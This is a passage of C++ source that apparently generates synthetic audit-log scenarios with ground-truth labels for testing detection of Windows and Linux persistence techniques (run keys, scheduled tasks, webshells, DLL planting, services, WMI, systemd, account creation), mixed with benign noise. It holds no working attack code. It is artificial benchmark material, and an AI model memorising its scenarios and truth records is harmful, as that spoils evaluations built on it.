  // fleet fires in registry order, then background noise resumes. First
  // connection order is what keeps every revived trigger tied to its own
  // payload.
  attack_startup(em, ha, true);
  for (int i = 0; i < 10; ++i) mimic_runkey_fire(em, ha, ma[i], i);
  attack_startup(em, hb, true);
  for (int i = 0; i < 10; ++i) mimic_runkey_fire(em, hb, mb[i], i);
  attack_runkey(em, hb);
  sprinkle_noise(em, ha, 2);
  return finish(std::move(em), "mimic-field");
}

GeneratedScenario gen_combined(std::uint64_t seed) {
  Emitter em(seed);
  {
    WinHost h = boot_windows(em, "w1");
    sprinkle_noise(em, h, 3);
    attack_startup(em, h, false);
  }
  {
    WinHost h = boot_windows(em, "w2");
    attack_runkey(em, h);
    sprinkle_noise(em, h, 2);
  }
  {
    WinHost h = boot_windows(em, "w3");
    attack_task(em, h);
  }
  {
    WinHost h = boot_windows(em, "w4");
    attack_dll_search(em, h);
  }
  {
    WinHost h = boot_windows(em, "w5");
    attack_dll_user(em, h);
  }
  {
    WinHost h = boot_windows(em, "w6");
    attack_external_tool(em, h);
    sprinkle_noise(em, h, 2);
  }
  {
    WinHost h = boot_windows(em, "w7");
    attack_service(em, h);
  }
  {
    WinHost h = boot_windows(em, "w8");
    attack_wmi(em, h);
  }
  {
    WinHost h = boot_windows(em, "w9");
    attack_account_local(em, h);
  }
  {
    WinHost h = boot_windows(em, "w10");
    attack_account_domain(em, h);
  }
  {
    NixHost h = boot_linux(em, "lx1");
    attack_webshell(em, h);
    noise_linux(em, h, 0);
  }
  {
    NixHost h = boot_linux(em, "lx2");
    noise_linux(em, h, 1);
    attack_systemd(em, h);
  }
  return finish(std::move(em), "combined");
}

GeneratedScenario gen_alpc(const std::string& name, std::uint64_t seed, double rate) {
  GeneratedScenario base = gen_single_windows(name, seed, attack_service);
  // Loopback chatter between core services, each exchange on its own
  // ephemeral port, timestamps spread across the base window.
  Emitter ipc(seed ^ 0x9e3779b97f4a7c15ULL);
  std::size_t pairs =
      static_cast<std::size_t>(rate * static_cast<double>(base.events.size()) / 2.0 + 0.5);
  TimeMs lo = base.events.front().ts;
  TimeMs hi = base.events.back().ts;
  ProcessRef lsa = ipc.make_root("w1", kLsass, "lsass.exe");
  ProcessRef rpc = ipc.make_root("w1", kSvchost, "svchost.exe -k rpcss");
  for (std::size_t i = 0; i < pairs; ++i) {
    TimeMs ts = lo + static_cast<TimeMs>(ipc.rand(static_cast<std::uint64_t>(hi - lo)));
    int port = 49152 + static_cast<int>(i % 16000);
    if (i % 2 == 0)
      ipc.ipc_pair("w1", lsa, rpc, ts, port);
    else
      ipc.ipc_pair("w1", rpc, lsa, ts, port);
  }
  base.ipc_events = std::move(ipc.events);
  base.name = name;
  return base;
}

GeneratedScenario gen_perf(std::uint64_t seed, std::size_t target) {
  Emitter em(seed);
  // Two compromised hosts in a sea of routine activity.
  {
    WinHost h = boot_windows(em, "w1");
    sprinkle_noise(em, h, 10);
    attack_runkey(em, h);
    sprinkle_noise(em, h, 10);
  }
  {
    WinHost h = boot_windows(em, "w2");
    sprinkle_noise(em, h, 10);
    attack_service(em, h);
    sprinkle_noise(em, h, 10);
  }
  int host_ix = 3;
  WinHost h = boot_windows(em, "w" + std::to_string(host_ix++));
  int round = 0;
  while (em.events.size() < target) {
    if (round >= 800) {
      h = boot_windows(em, "w" + std::to_string(host_ix++));
      round = 0;
    }
    switch (em.rand(4)) {
      case 0: noise_browse(em, h, round); break;
      case 1: noise_office(em, h, round); break;
      case 2: noise_system(em, h, round); break;
      case 3: noise_transient_dll(em, h, round); break;
    }
    ++round;
  }
  return finish(std::move(em), "perf-1m");
}

}  // namespace

std::vector<ScenarioInfo> builtin_scenarios() {
  return {
      {"fig3-startup", "startup-folder shortcut chain with a staged loader and beacon"},
      {"runkey", "run-key value pointing at a dropped updater"},
      {"task-sched", "scheduled task created via schtasks, fired at boot"},
      {"webshell", "php dropped under a web root and triggered by a later request"},
      {"dll-search", "planted dll in a system directory loaded by a service host"},
      {"dll-user", "planted dll beside a user application"},
      {"external-remote", "dropped remote-access service accepting from outside"},
      {"svc-remote", "windows service installed through sc.exe (broker-written)"},
      {"wmi-event", "wmi event consumer registered via wmic (broker-written)"},
      {"systemd-unit", "systemd unit dropped on disk, started next boot"},
      {"account-local", "local account added, later external login"},
      {"account-domain", "domain account added, later in-perimeter login"},
      {"fig4-mimic", "one attack beside one benign run-key updater"},
      {"mimic-ten", "one attack beside ten benign run-key updaters"},
      {"mimic-field", "three attacks among twenty benign run-key updaters"},
      {"noise-only", "routine activity with nothing persisted"},
      {"combined", "every attack technique once, across hosts"},
      {"alpc-low", "svc-remote plus loopback chatter, low rate"},
      {"alpc-mid", "svc-remote plus loopback chatter, medium rate"},
      {"alpc-high", "svc-remote plus loopback chatter, high rate"},
      {"perf-1m", "about a million events of routine activity plus two attacks"},
  };
}

GeneratedScenario generate_scenario(const std::string& name, std::uint64_t seed) {
  if (name == "fig3-startup") return gen_fig3(seed);
  if (name == "runkey") return gen_single_windows(name, seed, attack_runkey);
  if (name == "task-sched") return gen_single_windows(name, seed, attack_task);
  if (name == "webshell") return gen_single_linux(name, seed, attack_webshell);
  if (name == "dll-search") return gen_single_windows(name, seed, attack_dll_search);
  if (name == "dll-user") return gen_single_windows(name, seed, attack_dll_user);
  if (name == "external-remote") return gen_single_windows(name, seed, attack_external_tool);
  if (name == "svc-remote") return gen_single_windows(name, seed, attack_service);
  if (name == "wmi-event") return gen_single_windows(name, seed, attack_wmi);
  if (name == "systemd-unit") return gen_single_linux(name, seed, attack_systemd);
  if (name == "account-local") return gen_single_windows(name, seed, attack_account_local);
  if (name == "account-domain") return gen_single_windows(name, seed, attack_account_domain);
  if (name == "fig4-mimic") return gen_fig4(seed, 1, name);
  if (name == "mimic-ten") return gen_fig4(seed, 10, name);
  if (name == "mimic-field") return gen_mimic_field(seed);
  if (name == "noise-only") return gen_noise_only(seed);
  if (name == "combined") return gen_combined(seed);
  if (name == "alpc-low") return gen_alpc(name, seed, 0.25);
  if (name == "alpc-mid") return gen_alpc(name, seed, 0.6);
  if (name == "alpc-high") return gen_alpc(name, seed, 1.1);
  if (name == "perf-1m") return gen_perf(seed, 1000000);
  throw ConfigError("unknown scenario: " + name);
}

namespace {

void write_events(const std::string& path, const std::vector<const AuditEvent*>& events) {
  std::ofstream os(path, std::ios::binary);
  if (!os) throw IoError("cannot write " + path);
  for (const AuditEvent* ev : events) os << serialize_event(*ev) << "\n";
  if (!os.flush()) throw IoError("short write: " + path);
}

}  // namespace

void write_scenario(const GeneratedScenario& s, const std::string& dir) {
  std::filesystem::create_directories(dir);
  std::vector<const AuditEvent*> base;
  base.reserve(s.events.size());
  for (const AuditEvent& ev : s.events) base.push_back(&ev);
  if (s.ipc_events.empty()) {
    write_events(dir + "/events.ndjson", base);
  } else {
    std::vector<const AuditEvent*> merged = base;
    for (const AuditEvent& ev : s.ipc_events) merged.push_back(&ev);
    std::sort(merged.begin(), merged.end(), [](const AuditEvent* a, const AuditEvent* b) {
      return a->ts != b->ts ? a->ts < b->ts : a->id < b->id;
    });
    write_events(dir + "/events.ndjson", merged);
    write_events(dir + "/events-noipc.ndjson", base);
  }
  {
    std::ofstream os(dir + "/truth.ndjson", std::ios::binary);
    if (!os) throw IoError("cannot write " + dir + "/truth.ndjson");
    for (const TruthRecord& t : s.truth) {
      nlohmann::json j;
      j["kind"] = t.kind;
      j["technique"] = t.technique;
      j["setup_event"] = t.setup_event_id;
      j["trigger_event"] = t.trigger_event_id;
      j["anchor_guid"] = t.anchor_guid;
      j["category"] = t.category;
      os << j.dump() << "\n";
    }
    if (!os.flush()) throw IoError("short write: " + dir + "/truth.ndjson");
  }
}

}  // namespace persist_trace
